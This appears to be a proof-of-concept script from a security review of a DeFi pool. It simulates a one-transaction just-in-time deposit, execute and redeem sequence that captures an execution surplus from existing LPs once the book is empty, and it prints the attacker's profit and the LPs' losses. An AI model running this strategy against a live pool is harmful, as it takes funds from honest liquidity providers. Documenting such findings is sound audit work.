"""A3 - just-in-time capture of an execution surplus once the book is empty.

A redemption pays min(quoted, value now); when the NAV rose after the quote, the
difference (the "surplus") stays in the pool and is shared by whoever holds shares at the
moment of execution. Symmetrically, a deposit executed after the NAV fell pays its assets
for the quoted (fewer) shares. When the book goes empty between request and execution,
instant ERC-4626 deposit/redeem are open again, so a stranger can - in one transaction -
deposit a large amount, execute the (mature, permissionless) request, and redeem: it takes
most of the surplus that would have gone to the LPs who were there all along.
"""

import boa

from common import ETH, WAD, addr, approve_pool, close, fmt, open_vault, value
from ringfence.risk_table import deploy_protocol


def setup():
    proto = deploy_protocol(decimals=6, pool_cash=1_000_000)  # honest LP: proto.lp
    leaver, jit, trader = addr("leaver"), addr("jit"), addr("trader")
    for a in (leaver, jit):
        proto.token.mint(a, proto.units(100_000_000))
        approve_pool(proto, a)
    with boa.env.prank(leaver):
        proto.pool.deposit(proto.units(1_000_000), leaver)
    proto.fund(trader, proto.units(2_000_000))
    pids = [open_vault(proto, trader, [(k, True, 300)], 200_000) for k in (2000, 2200)]
    return proto, leaver, jit, trader, pids


def redemption_case(jit_size):
    proto, leaver, jit, trader, pids = setup()
    pool = proto.pool
    with boa.env.prank(leaver):
        rid = pool.request_redeem(pool.balanceOf(leaver), leaver)
    quoted = pool.requests(rid).quoted
    proto.oracle.set_price(ETH, 1700 * WAD)  # calls fall: the pool (short) gains
    for pid in pids:
        close(proto, trader, pid)  # the book is now empty
    assert not pool.active_series()
    boa.env.time_travel(seconds=pool.LP_DELAY())
    surplus = pool.convertToAssets(pool.requests(rid).amount) - quoted
    with boa.env.anchor():  # baseline: the keeper executes, no JIT
        pool.execute_request(rid)
        honest_fair = value(proto, proto.lp)
    w0 = proto.token.balanceOf(jit)
    with boa.env.prank(jit):  # one transaction in practice
        s = pool.deposit(proto.units(jit_size), jit)
        pool.execute_request(rid)
        pool.redeem(s, jit, jit)
    profit = proto.token.balanceOf(jit) - w0
    honest_after = value(proto, proto.lp)
    print(f"[redemption] quoted {fmt(proto, quoted)}, surplus at execution {fmt(proto, surplus)};"
          f" JIT deposit {jit_size:,}")
    print(f"   JIT profit {fmt(proto, profit)}; honest LP {fmt(proto, honest_after)} vs"
          f" {fmt(proto, honest_fair)} without JIT (loss {fmt(proto, honest_fair - honest_after)})")
    return profit


def deposit_case(jit_size):
    proto, leaver, jit, trader, pids = setup()
    pool = proto.pool
    depositor = addr("depositor")
    proto.token.mint(depositor, proto.units(1_000_000))
    approve_pool(proto, depositor)
    with boa.env.prank(depositor):
        rid = pool.request_deposit(proto.units(1_000_000), depositor)
    quoted = pool.requests(rid).quoted
    proto.oracle.set_price(ETH, 2300 * WAD)  # calls rise: the pool loses
    for pid in pids:
        close(proto, trader, pid)
    boa.env.time_travel(seconds=pool.LP_DELAY())
    fair = pool.convertToShares(proto.units(1_000_000))
    others = lambda: value(proto, proto.lp) + value(proto, leaver) + value(proto, depositor)  # noqa: E731
    with boa.env.anchor():
        pool.execute_request(rid)
        others_fair = others()
    w0 = proto.token.balanceOf(jit)
    with boa.env.prank(jit):
        s = pool.deposit(proto.units(jit_size), jit)
        pool.execute_request(rid)
        pool.redeem(s, jit, jit)
    profit = proto.token.balanceOf(jit) - w0
    print(f"[deposit] quoted shares {quoted / 1e6:,.2f} < fair {fair / 1e6:,.2f} at execution;"
          f" JIT deposit {jit_size:,}")
    print(f"   JIT profit {fmt(proto, profit)}; the other three LPs (honest, leaver, depositor) {fmt(proto, others())} vs"
          f" {fmt(proto, others_fair)} without JIT (loss {fmt(proto, others_fair - others())})")
    return profit


if __name__ == "__main__":
    for size in (1_000_000, 10_000_000, 50_000_000):
        redemption_case(size)
    for size in (10_000_000,):
        deposit_case(size)
